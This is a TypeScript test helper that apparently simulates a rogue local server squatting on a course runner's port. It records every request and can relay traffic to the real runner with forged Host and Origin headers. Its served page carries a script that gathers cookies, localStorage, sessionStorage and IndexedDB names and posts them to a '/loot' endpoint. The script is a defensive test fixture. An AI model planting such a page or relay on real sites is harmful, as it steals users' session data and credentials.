import { once } from "node:events";
import { createServer, request, type IncomingMessage } from "node:http";
import { connect } from "node:net";
import { WebSocketServer } from "ws";
import {
  protocolVersion,
  socketProtocol,
  type CourseOverview,
} from "#contract";

/** Somebody else's server on the port of a runner. It has read the project's source. */
export interface Impostor {
  /** Everything it was sent: request lines, headers, messages and bodies. */
  taken(): string;
  /** How often a page tried to open a lab's socket, and how many messages came over them. */
  readonly tries: number;
  readonly messages: number;
  close(): Promise<void>;
}

/** What it answers. */
export interface ImpostorOptions {
  /** It says that this run is its own. */
  run?: string;
  /** It passes everything on to the runner on this port, under that runner's own name. */
  relayTo?: number;
}

const course: CourseOverview = {
  protocol: protocolVersion,
  version: "0.1.0",
  isolation: { level: "isolated", reason: null, remedy: null },
  labs: [],
};

/** Its page: tells it all that pages of this address have stored. */
const page = `<!doctype html><title>A course</title><script>
const stored = { ...localStorage, ...sessionStorage, cookie: document.cookie, address: location.href };
indexedDB.databases().then((all) => fetch("/loot", { method: "POST", body: JSON.stringify([stored, all]) }));
</script>`;

/** Listens on `port`. */
export async function listenAsImpostor(
  port: number,
  { run = "0".repeat(64), relayTo }: ImpostorOptions = {},
): Promise<Impostor> {
  let taken = "";
  let tries = 0;
  let messages = 0;
  const own = `127.0.0.1:${relayTo ?? port}`;
  const headersOf = ({ headers }: IncomingMessage) => ({
    ...headers,
    host: own,
    ...(headers.origin !== undefined && { origin: `http://${own}` }),
  });
  const note = ({ method, url, rawHeaders }: IncomingMessage) =>
    (taken += `${method} ${url}\n${rawHeaders.join("\n")}\n`);

  const server = createServer((incoming, answer) => {
    note(incoming);
    incoming.on("data", (body: Buffer) => (taken += `${body.toString()}\n`));
    const { method, url = "/" } = incoming;
    if (relayTo !== undefined) {
      const options = {
        port: relayTo,
        path: url,
        headers: headersOf(incoming),
      };
      const onward = request({ host: "127.0.0.1", method, ...options });
      onward.on("response", (given) => {
        answer.writeHead(given.statusCode ?? 500, given.headers);
        given.pipe(answer);
      });
      onward.on("error", () => answer.destroy());
      incoming.pipe(onward);
    } else if (url.startsWith("/api/")) {
      answer.setHeader("content-type", "application/json");
      // A page that it does not know is asked to show what else it has.
      if (tries % 2 === 1 && url === "/api/course") answer.statusCode = 401;
      answer.end(JSON.stringify(url === "/api/run" ? { run } : course));
    } else answer.setHeader("content-type", "text/html").end(page);
  });
  const sockets = new WebSocketServer({
    noServer: true,
    handleProtocols: () => socketProtocol,
  });
  server.on("upgrade", (incoming, socket, head) => {
    note(incoming);
    tries += 1;
    socket.on("error", () => undefined);
    if (relayTo === undefined)
      return sockets.handleUpgrade(incoming, socket, head, (peer) => {
        peer.on("message", (data) => {
          messages += 1;
          if (Buffer.isBuffer(data))
            taken += `${data.toString()}
`;
        });
        peer.send(
          JSON.stringify({ type: "proof", proof: run, returnKey: run }),
        );
        peer.send(JSON.stringify(welcome));
      });
    const onward = connect(relayTo, "127.0.0.1", () => {
      const lines = Object.entries(headersOf(incoming)).map(
        ([name, value]) => `${name}: ${String(value)}`,
      );
      onward.write(
        `GET ${incoming.url} HTTP/1.1\r\n${lines.join("\r\n")}\r\n\r\n`,
      );
      socket.pipe(onward).pipe(socket);
    });
    onward.on("error", () => socket.destroy());
    socket.on("close", () => onward.destroy());
  });
  server.listen(port, "127.0.0.1");
  await once(server, "listening");
  return {
    taken: () => taken,
    get tries() {
      return tries;
    },
    get messages() {
      return messages;
    },
    async close() {
      for (const peer of sockets.clients) peer.terminate();
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}

const welcome = {
  type: "welcome",
  run: "r",
  isolation: course.isolation,
  terminals: ["server", "client"].map((id, number) => ({
    ...{ id, number, columns: 80, rows: 24 },
    state: { is: "idle" },
  })),
  files: [],
  progress: {
    ...{ attempts: 0, lastResult: null, passed: [], steps: [] },
    ...{ answers: {}, hints: {} },
  },
  grading: null,
  outdated: false,
};
